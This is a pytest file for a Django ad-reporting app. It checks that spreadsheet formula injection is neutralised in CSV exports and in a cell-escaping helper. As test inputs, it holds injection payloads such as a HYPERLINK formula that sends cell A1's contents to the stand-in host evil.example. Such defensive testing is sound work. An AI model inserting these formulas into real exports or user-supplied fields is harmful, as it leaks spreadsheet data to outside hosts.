"""Spreadsheet cells: formula injection through platform-supplied names (issue 14, finding 11)."""

from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.utils import timezone

from connectors.base import ReportRow
from reports.store import report_rows_write
from web.cells import neutralise


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Spring sale", "Spring sale"),
        (-1.5, -1.5),
        (Decimal("-2"), Decimal("-2")),
        (None, ""),
    ],
)
def test_neutralise_follows_owasp(value, expected):
    assert neutralise(value) == expected


def test_dashboard_csv_neutralises_platform_names(alice, account_a, report_store):
    from reports.models import AdEntity

    now = timezone.now()
    AdEntity.objects.create(
        ad_account=account_a,
        platform="sandbox",
        level="campaign",
        external_id="c1",
        name='=HYPERLINK("https://evil.example/?"&A1,"Spring")',
        first_seen_at=now,
        updated_at=now,
    )
    row = ReportRow(
        level="campaign",
        granularity="day",
        entity_id="c1",
        stat_time=datetime(2024, 3, 8, tzinfo=ZoneInfo("UTC")),
        impressions=10,
        clicks=1,
        cost=Decimal("1.00"),
        conversions=0,
        currency="USD",
        extra={},
    )
    report_rows_write(account=account_a, rows=[row], run_id="t")
    client = Client()
    client.force_login(alice)
    body = client.get("/dashboard.csv?start=2024-03-08&end=2024-03-08&level=campaign").content.decode()
    line = body.splitlines()[1]
    assert "'=HYPERLINK" in line and ',"=HYPERLINK' not in line
